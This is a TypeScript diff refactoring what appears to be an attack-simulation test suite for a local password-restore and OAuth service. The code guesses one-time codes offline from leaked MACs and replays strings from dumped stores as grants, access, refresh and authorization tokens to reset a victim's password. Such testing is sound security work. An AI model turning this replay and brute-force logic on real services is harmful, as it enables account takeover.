@@ -57,7 +57,11 @@ function* formulas(keys: readonly string[]): Generator<Formula> {
  * Looks for a way to compute the stored form of a code of one's own from strings of a dump, and then guesses another code
  * by it offline. @returns the other code
  */
-export const crack = (own: StoredCode & { code: string }, other: StoredCode, keys: readonly string[]): string | undefined => {
+export const crack = (
+  own: StoredCode & { code: string },
+  other: StoredCode,
+  keys: readonly string[],
+): string | undefined => {
   for (const formula of formulas(['', ...keys])) {
     if (formula(own.code, own.challengeId) !== own.mac) continue
     for (let guess = 0; guess < 1_000_000; guess += 1) {
@@ -68,11 +72,49 @@ export const crack = (own: StoredCode & { code: string }, other: StoredCode, key
   return undefined
 }
 
+const useGrant = (thief: Thief, grant: string) =>
+  thief.setBy('replayed', (password) => thief.actor.setByGrant(grant, password))
+
+/**
+ * Tries each string as what its form allows: one of several parts as a grant, an access token and a refresh token (JWT,
+ * JWE), any other as an authorization code.
+ */
+export const useStrings = async (
+  thief: Thief,
+  { rekey: { http } }: Pick<Scene, 'rekey'>,
+  strings: readonly string[],
+) => {
+  const accessToken = async (request: object): Promise<string | undefined> => {
+    const { body } = await http.post('/oauth/v2/token', {
+      client_id: 'ib_localhost',
+      redirect_uri: 'http://localhost',
+      ...request,
+    })
+    return body.access_token as string | undefined
+  }
+  const asBearerToken = async (token: string) =>
+    (await http.get('/api/v2/my/password/changes', asBearer(token))).status === 200 ? token : undefined
+
+  for (const string of strings) {
+    const tokens = string.includes('.')
+      ? await Promise.all([
+          asBearerToken(string),
+          accessToken({ grant_type: 'refresh_token', refresh_token: string }),
+          useGrant(thief, string).then(() => undefined),
+        ])
+      : [await accessToken({ grant_type: 'authorization_code', code: string })]
+    for (const token of tokens) {
+      if (token === undefined) continue
+      await thief.setBy('replayed', (password) => thief.actor.change(token, password, thief.loot.password))
+    }
+  }
+}
+
 /** Tries every string of the stolen stores as each kind of token, every number as a code, and guesses codes offline. */
 export const replay = async (thief: Thief, scene: Scene): Promise<void> => {
   const { rekey, stores, victims } = scene
   const { http } = rekey
-  const { victim, actor, loot } = thief
+  const { victim, loot } = thief
   const { answer } = await askRestore(rekey, victim.email)
   const mfaToken = answer.body.mfa_token
   for (const name of namesIn(mfaToken)) victim.marks.add(name)
@@ -85,12 +127,9 @@ export const replay = async (thief: Thief, scene: Scene): Promise<void> => {
   if (dumps.some((dump) => !dump.includes(victim.code) && !dump.includes(namesIn(mfaToken)[0])))
     throw new Error('a dump has nothing of the customer: the attempts proved nothing')
 
-  const useGrant = (grant: string) => thief.setBy('replayed', (password) => actor.setByGrant(grant, password))
-  const useSession = (token: string) =>
-    thief.setBy('replayed', (password) => actor.change(token, password, loot.password))
   const submit = async (code: string) => {
     const { body } = await http.post('/oauth/v2/passwordRestoreVerification', verificationBody(mfaToken, code))
-    if (body.sign_token !== undefined) await useGrant(String(body.sign_token))
+    if (body.sign_token !== undefined) await useGrant(thief, String(body.sign_token))
     return body.sign_token !== undefined
   }
 
@@ -108,24 +147,5 @@ export const replay = async (thief: Thief, scene: Scene): Promise<void> => {
   }
   for (const code of codesIn(text).slice(-mostCodes)) if (await submit(code)) return
 
-  const accessToken = async (request: object): Promise<string | undefined> => {
-    const { body } = await http.post('/oauth/v2/token', {
-      client_id: 'ib_localhost',
-      redirect_uri: 'http://localhost',
-      ...request,
-    })
-    return body.access_token as string | undefined
-  }
-  const asBearerToken = async (token: string) =>
-    (await http.get('/api/v2/my/password/changes', asBearer(token))).status === 200 ? token : undefined
-
-  for (const string of stringsIn(text)) {
-    const [, ...tokens] = await Promise.all([
-      useGrant(string),
-      asBearerToken(string),
-      accessToken({ grant_type: 'refresh_token', refresh_token: string }),
-      accessToken({ grant_type: 'authorization_code', code: string }),
-    ])
-    for (const token of tokens) if (token !== undefined) await useSession(token)
-  }
+  await useStrings(thief, scene, stringsIn(text))
 }
